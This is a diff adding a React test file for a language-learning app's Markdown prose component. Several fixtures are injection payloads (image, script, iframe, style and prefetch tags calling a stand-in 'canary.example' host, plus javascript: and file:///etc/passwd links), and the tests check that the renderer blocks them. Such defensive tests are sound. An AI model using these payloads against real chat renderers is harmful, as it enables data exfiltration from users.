@@ -1,0 +1,123 @@
+import { describe, expect, test } from "bun:test";
+import { act, screen, waitFor, within } from "@testing-library/react";
+import type { LearningLanguage } from "#shared/languages/types.ts";
+import { playApi } from "#test/played-api.ts";
+import { playEvents } from "#test/played-events.ts";
+import { renderPage } from "#test/render-page.tsx";
+import { Prose } from "./prose.tsx";
+
+const prose = () => document.querySelector(".prose-pieces") ?? document.body;
+async function open(text: string, language: LearningLanguage = "ja") {
+  const page = await renderPage(<Prose text={text} language={language} messageId="m" />);
+  await act(() => import("./markdown.tsx")); // it is loaded when it is needed
+  return page;
+}
+
+describe("Markdown of a model", () => {
+  test.each([
+    ["これは**「重要」**です。", "「重要」"],
+    ["**Markdown（マークダウン）**は便利。", "Markdown（マークダウン）"],
+    ["이것은 **“중요”**합니다.", "“중요”"],
+  ])("is bold beside the punctuation of its language: %s", async (text, bold) => {
+    using _server = playApi({});
+    using _page = await open(text);
+    await waitFor(() => expect(document.querySelector("strong")?.textContent).toBe(bold));
+  });
+
+  test("draws lists, tables and code", async () => {
+    using _server = playApi({});
+    using _page = await open("- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n**as it is\n```");
+    expect(await screen.findAllByRole("listitem")).toHaveLength(2);
+    expect(screen.getByRole("cell", { name: "2" })).toBeTruthy();
+    expect(document.querySelector("pre")?.textContent).toContain("**as it is");
+  });
+
+  test.each([
+    ["a picture", "![secret](http://canary.example/?q=secret)"],
+    ["a picture by reference", "![secret][1]\n\n[1]: http://canary.example/x.png"],
+    ["a tag", '<img src="http://canary.example/" srcset="http://canary.example/ 2x">'],
+    ["a script", "<script>fetch('http://canary.example/')</script> **x**"],
+    ["a frame", '<iframe src="http://canary.example/"></iframe> **x**'],
+    ["a style", "<style>body{background:url(http://canary.example/)}</style> **x**"],
+    ["a preload", '<link rel="prefetch" href="http://canary.example/"> **x**'],
+  ])("loads nothing: %s", async (_, text) => {
+    using server = playApi({});
+    using _page = await open(text);
+    expect(prose().textContent).toContain(text.startsWith("!") ? "[picture: secret]" : text.slice(0, 20)); // seen, as text
+    expect(prose().querySelector("img, script, iframe, style, link, source, video, object, svg")).toBeNull();
+    expect(server.requests).toEqual([]);
+  });
+
+  test.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd"])(
+    "has no link to %s",
+    async (url) => {
+      using _server = playApi({});
+      using _page = await open(`**x** [press me](${url})`);
+      expect((await screen.findByText("press me")).closest("a")).toBeNull();
+    },
+  );
+
+  test("shows where a link leads, and tells it nothing about us", async () => {
+    using _server = playApi({});
+    using _page = await open("[the grammar](https://example.org/a) and https://example.org/b");
+    const links = await screen.findAllByRole<HTMLAnchorElement>("link");
+    expect(links.map(({ textContent }) => textContent)).toEqual(["the grammar (example.org)", "https://example.org/b"]);
+    for (const link of links) expect([link.rel, link.target]).toEqual(["noopener noreferrer", "_blank"]);
+  });
+});
+
+describe("a sentence of the language in prose", () => {
+  test("can be pressed also where words of it are bold", async () => {
+    using _server = playApi({});
+    using _page = await open("- **私**は学生です。\n- It means: I am a *student*.");
+    const buttons = await screen.findAllByRole("button");
+    expect(buttons.map(({ textContent, lang }) => [textContent, lang])).toEqual([["私は学生です。", "ja"]]);
+    expect(prose().textContent).toContain("I am a student.");
+  });
+
+  test("is no button in a link or in code", async () => {
+    using _server = playApi({});
+    using _page = await open("[日本に行きたいです。](https://example.org) `日本に行きたいです。`");
+    await screen.findByRole("link");
+    expect(screen.queryByRole("button")).toBeNull();
+  });
+
+  test("opens its card under the paragraph with Enter, and closes it again", async () => {
+    using events = playEvents();
+    using server = playApi({
+      "POST /api/cards": { generationId: "g", conversationId: null, messageId: null },
+      "GET /api/settings": {},
+    });
+    using page = await renderPage(<Prose text={"何の映画を見ましたか。\n\nSo."} language="ja" messageId="m" />);
+    const sentence = screen.getByRole("button", { name: "何の映画を見ましたか。" });
+    sentence.focus();
+    await page.user.keyboard("{Enter}");
+    expect(sentence.getAttribute("aria-expanded")).toBe("true");
+    await waitFor(() => expect(events.open()).toHaveLength(1));
+    expect(server.bodies("POST /api/cards")).toEqual([
+      { text: "何の映画を見ましたか。", language: "ja", messageId: "m", fresh: false },
+    ]);
+
+    const words = [
+      {
+        surface: "映画",
+        start: 2,
+        end: 4,
+        reading: "えいが",
+        partOfSpeech: "noun",
+        meaning: "",
+        from: "analyser",
+        verdict: "unchecked",
+        candidates: [],
+      },
+    ];
+    events.open()[0]?.say(1, { type: "started", language: "ja", answerer: null, at: 0 });
+    events.open()[0]?.say(2, { type: "analysis", text: "何の映画を見ましたか。", words });
+    const card = await screen.findByRole("article", { name: "Card: 何の映画を見ましたか。" });
+    expect(within(card).getByText("meaning follows")).toBeTruthy();
+
+    await page.user.click(screen.getByRole("button", { name: "Close the card" }));
+    expect(screen.queryByRole("article")).toBeNull();
+    expect(events.open()).toEqual([]);
+  });
+});
